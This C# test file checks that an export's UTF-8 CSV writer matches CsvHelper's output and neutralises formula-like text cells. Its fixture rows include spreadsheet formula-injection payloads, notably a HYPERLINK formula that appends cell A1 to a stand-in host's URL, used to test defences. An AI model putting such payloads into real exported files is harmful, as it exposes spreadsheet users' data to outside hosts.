using System.Buffers;
using System.Globalization;
using System.Text;
using CsvHelper;
using OpsConsole.Core.Etl;
using OpsConsole.Core.Shared.Csv;

namespace OpsConsole.Tests.Core.Etl;

/// <summary>
/// The export's UTF-8 CSV writer gives exactly the text CsvHelper's writer gives, from bytes and from strings; its text
/// fields exactly what CsvHelper gives for <see cref="CsvCells.Neutralise"/>'s cells.
/// </summary>
public sealed class Utf8CsvWriterTests
{
    private static readonly string?[][] Rows =
    [
        ["plain", "2", "7.5", null, "", "ITM-00042"],
        ["a,b", "say \"hi\"", "\"", "\"\"", ",", "x\"y,z"],
        [" leading", "trailing ", " ", "in side", "line\nbreak", "cr\rhere", "crlf\r\nhere"],
        ["Zürich", "Ærøskøbing, DK", "東京", "emoji 🚲", "\u00a0nbsp", "tab\there"],
        [new string('x', 600), "long, " + new string('é', 400) + " \"end\"", "ok"],
        [null],
        [""],
        ["=HYPERLINK(\"http://x.test/?\"&A1,\"open\")", "+1", "-12.5", "@SUM(A1:A9)", "\tcmd", "\rcmd", "\0nul", "=a,b", "= ", "-"],
        ["a=1", " =1", "'=1", "é=", "\n=1"],
    ];

    [Fact]
    public void StringFields_MatchCsvHelper() => Written(fromBytes: false, text: false).Should().Be(CsvHelperText(neutralise: false));

    [Fact]
    public void ByteFields_MatchCsvHelper() => Written(fromBytes: true, text: false).Should().Be(CsvHelperText(neutralise: false));

    [Fact]
    public void StringTextFields_MatchCsvHelperWithNeutralisedCells() => Written(fromBytes: false, text: true).Should().Be(CsvHelperText(neutralise: true));

    [Fact]
    public void ByteTextFields_MatchCsvHelperWithNeutralisedCells() => Written(fromBytes: true, text: true).Should().Be(CsvHelperText(neutralise: true));

    [Fact]
    public void TextFields_StartingLikeAFormula_ReadBackAsTextWithASingleQuote_OtherFieldsAsTheyAre()
    {
        var output = new ArrayBufferWriter<byte>();
        var csv = new Utf8CsvWriter(output);
        csv.TextField("=HYPERLINK(\"http://x.test/\",\"open\")");
        csv.TextField("-2+3");
        csv.TextField("ITM-1");
        csv.Field("-12.5");
        csv.EndRecord();
        csv.Flush();
        using var reader = new CsvReader(new StringReader(Encoding.UTF8.GetString(output.WrittenSpan)), CultureInfo.InvariantCulture);
        reader.Read().Should().BeTrue();
        reader.Parser.Record.Should().Equal("'=HYPERLINK(\"http://x.test/\",\"open\")", "'-2+3", "ITM-1", "-12.5");
    }

    [Fact]
    public void ManyRows_SpanBufferSegments_Intact()
    {
        // Small segments from the buffer writer: records cross segment boundaries many times.
        var output = new ArrayBufferWriter<byte>(16);
        var csv = new Utf8CsvWriter(output);
        for (var i = 0; i < 5_000; i++)
        {
            csv.Field($"row {i}");
            csv.Field("a,\"b\"");
            csv.EndRecord();
        }
        csv.Flush();
        var lines = Encoding.UTF8.GetString(output.WrittenSpan).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        lines.Should().HaveCount(5_000);
        lines[4_321].Should().Be("row 4321,\"a,\"\"b\"\"\"");
    }

    private static string Written(bool fromBytes, bool text)
    {
        var output = new ArrayBufferWriter<byte>();
        var csv = new Utf8CsvWriter(output);
        foreach (var row in Rows)
        {
            foreach (var field in row)
            {
                switch (fromBytes, text)
                {
                    case (true, false):
                        csv.Field(Encoding.UTF8.GetBytes(field ?? ""));
                        break;
                    case (true, true):
                        csv.TextField(Encoding.UTF8.GetBytes(field ?? ""));
                        break;
                    case (false, false):
                        csv.Field(field);
                        break;
                    case (false, true):
                        csv.TextField(field);
                        break;
                }
            }
            csv.EndRecord();
        }
        csv.Flush();
        return Encoding.UTF8.GetString(output.WrittenSpan);
    }

    private static string CsvHelperText(bool neutralise)
    {
        using var text = new StringWriter();
        using (var csv = new CsvWriter(text, CultureInfo.InvariantCulture, leaveOpen: true))
        {
            foreach (var row in Rows)
            {
                foreach (var field in row)
                {
                    csv.WriteField(neutralise ? CsvCells.Neutralise(field) : field);
                }
                csv.NextRecord();
            }
        }
        return text.ToString();
    }
}
